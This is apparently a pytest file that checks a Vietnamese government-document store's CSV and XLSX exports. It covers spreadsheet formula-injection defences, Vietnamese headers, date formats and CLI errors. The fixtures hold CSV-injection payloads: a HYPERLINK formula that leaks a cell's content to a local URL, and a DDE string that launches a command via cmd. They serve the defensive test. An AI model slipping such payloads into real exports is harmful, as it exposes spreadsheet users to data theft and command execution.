"""Exports under hostile text and for people in Excel (issue 13: items 4 and 18)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from store_fixtures import *  # noqa: F401,F403
from store_fixtures import make_record, page_text_for
from dispatch_reader.store import FilterError, open_store

EVIL_SUBJECT = '=HYPERLINK("http://127.0.0.1:9/?x="&A2,"Bấm vào đây")'
EVIL_PEOPLE = ["+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def store(sqlite_url):
    records = [
        make_record("evil", number="9/QĐ-X", issued="2025-07-01", subject=EVIL_SUBJECT, people=[],
                    secondments=[{"person": p, "from_unit": "Sở Nội vụ", "to_unit": "xã Tủa Thàng"}
                                 for p in EVIL_PEOPLE]),
        make_record("a", number="15/QĐ-UBND", issued="2025-08-04",
                    secondments=[{"person": "Nguyễn Thị Chuyên", "from_unit": "Sở Nội vụ", "to_unit": "xã Tủa Thàng",
                                  "start": "2025-09-03", "end": "2025-11-03"},
                                 {"person": "Lò Thông Nhất", "from_unit": "Sở Y tế", "to_unit": "xã Sìn Hồ",
                                  "start": "2025-08-31", "duration_months": 6.0}]),
    ]
    with open_store(sqlite_url) as s:
        for r in records:
            s.save(r, page_texts=page_text_for(r), extractor_version="1.0")
        yield s


# -- 4: formula injection ---------------------------------------------------------------------

def test_xlsx_text_cells_are_text_never_formulas(store, tmp_path):
    from openpyxl import load_workbook

    for what, lang in (("documents", None), ("secondments", "vi"), ("secondments", None)):
        path = tmp_path / f"{what}-{lang}.xlsx"
        store.export(what, "xlsx", path, lang=lang)
        with zipfile.ZipFile(path) as z:
            sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
            xml = "".join(z.read(n).decode("utf-8") for n in sheets)
        assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
        ws = load_workbook(path).active
        values = {c.value: c.data_type for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
        wanted = [EVIL_SUBJECT] if what == "documents" else ["+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
        for text in wanted:
            assert values.get(text) == "s", text  # exactly as written, as a text cell


def _csv_rows(store, what, **kwargs):
    buf = io.StringIO()
    store.export(what, "csv", None, stdout=buf, **kwargs)
    return list(csv.DictReader(io.StringIO(buf.getvalue(), newline="")))


def test_csv_neutralises_formula_starts_and_raw_keeps_them(store):
    docs = {r["number"]: r for r in _csv_rows(store, "documents")}
    assert docs["9/QĐ-X"]["subject"] == "'" + EVIL_SUBJECT
    people = [r["person"] for r in _csv_rows(store, "secondments") if r["document_number"] == "9/QĐ-X"]
    assert people == ["'" + p for p in EVIL_PEOPLE]
    # an ordinary cell is untouched
    assert docs["15/QĐ-UBND"]["subject"] == "Về việc biệt phái công chức đến công tác tại xã"
    raw = [r["person"] for r in _csv_rows(store, "secondments", raw=True) if r["document_number"] == "9/QĐ-X"]
    assert raw == EVIL_PEOPLE
    assert {r["number"]: r for r in _csv_rows(store, "documents", raw=True)}["9/QĐ-X"]["subject"] == EVIL_SUBJECT


# -- 18: exports ready for Excel --------------------------------------------------------------

def test_xlsx_for_people_in_vietnamese(store, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "biet-phai.xlsx"
    assert store.export("secondments", "xlsx", path, lang="vi") == 7
    ws = load_workbook(path).active
    assert ws.title == "Nhân sự được cử"
    assert ws.freeze_panes == "A2"
    header = [c.value for c in ws[1]]
    assert ws.auto_filter.ref == f"A1:{ws.cell(row=1, column=len(header)).column_letter}8"
    for h in ("Số, ký hiệu", "Ngày ban hành", "Cơ quan ban hành", "Họ và tên", "Nơi đến", "Bắt đầu", "Kết thúc",
              "Ngày kết thúc tính từ thời hạn", "Tình trạng", "Tình trạng (mã)", "Hình thức", "Hình thức (mã)",
              "Tệp nguồn", "Các tệp của văn bản"):
        assert h in header, h
    # a label, then its code in a column of its own
    assert header.index("Tình trạng (mã)") == header.index("Tình trạng") + 1
    rows = [dict(zip(header, (c for c in r))) for r in ws.iter_rows(min_row=2)]
    lo = next(r for r in rows if r["Họ và tên"].value == "Lò Thông Nhất")
    assert lo["Tình trạng"].value == "Quyết định cử" and lo["Tình trạng (mã)"].value == "decided"
    assert lo["Hình thức"].value == "Biệt phái" and lo["Hình thức (mã)"].value == "secondment"
    assert lo["Cơ quan ban hành"].value == "Ủy ban nhân dân tỉnh Lai Châu"
    assert lo["Tệp nguồn"].value == "a.pdf"
    assert lo["Các tệp của văn bản"].value == "a.pdf (bản điện tử, dùng để đọc)"  # worded in Vietnamese too
    # dates are dates, shown the Vietnamese way; the end derived from start + 6 months is there
    assert lo["Ngày ban hành"].is_date and lo["Ngày ban hành"].number_format == "dd/mm/yyyy"
    assert lo["Ngày ban hành"].value.date() == dt.date(2025, 8, 4)
    assert lo["Kết thúc"].is_date and lo["Kết thúc"].value.date() == dt.date(2026, 2, 28)
    assert lo["Ngày kết thúc tính từ thời hạn"].value == "có"
    chuyen = next(r for r in rows if r["Họ và tên"].value == "Nguyễn Thị Chuyên")
    assert chuyen["Kết thúc"].value.date() == dt.date(2025, 11, 3)
    assert chuyen["Ngày kết thúc tính từ thời hạn"].value == "không"
    # columns as wide as their content, not Excel's 8.43
    widths = {h: ws.column_dimensions[ws.cell(row=1, column=i + 1).column_letter].width for i, h in enumerate(header)}
    assert widths["Các tệp của văn bản"] > 20 and widths["Cơ quan ban hành"] > 25
    assert all(w <= 62 for w in widths.values())


def test_english_headers_and_raw_field_names(store, tmp_path):
    rows = _csv_rows(store, "documents", lang="en")
    assert {"Number", "Type", "Type (code)", "Issued", "Issuer"} <= set(rows[0])
    assert {(r["Type"], r["Type (code)"]) for r in rows} == {("Decision", "decision")}
    raw = _csv_rows(store, "secondments", raw=True)
    assert {"document_number", "issuer", "status", "end_effective", "end_derived", "source_file"} <= set(raw[0])
    lo = next(r for r in raw if r["person"] == "Lò Thông Nhất")
    assert (lo["end"], lo["end_effective"], lo["end_derived"]) == ("", "2026-02-28", "True")


@pytest.mark.parametrize("fmt, name", [("xlsx", "a.csv"), ("csv", "a.xlsx"), ("json", "a.csv")])
def test_format_and_suffix_must_agree(app, sqlite_url, store, tmp_path, fmt, name):
    out = tmp_path / name
    res = CliRunner().invoke(app, ["export", "documents", "--format", fmt, "--out", str(out), "--db", sqlite_url])
    assert res.exit_code != 0
    assert not out.exists() and not list(tmp_path.glob(f".{name}*"))
    message = res.output.strip()
    assert len(message.splitlines()) == 1 and "Traceback" not in message
    assert re.search(rf"ends in \.{name.split('.')[1]} but the format is {fmt}", message)
    with pytest.raises(FilterError):
        store.export("documents", fmt, out)


def test_cli_export_defaults_to_vietnamese_and_raw_is_exact(app, sqlite_url, store, tmp_path):
    out = tmp_path / "d.csv"
    res = CliRunner().invoke(app, ["export", "documents", "--out", str(out), "--db", sqlite_url])
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8-sig"), newline="")))
    assert {r["Số, ký hiệu"]: r["Trích yếu"] for r in rows}["9/QĐ-X"] == "'" + EVIL_SUBJECT
    res = CliRunner().invoke(app, ["export", "documents", "--raw", "--out", str(out), "--db", sqlite_url])
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8-sig"), newline="")))
    assert {r["number"]: r["subject"] for r in rows}["9/QĐ-X"] == EVIL_SUBJECT
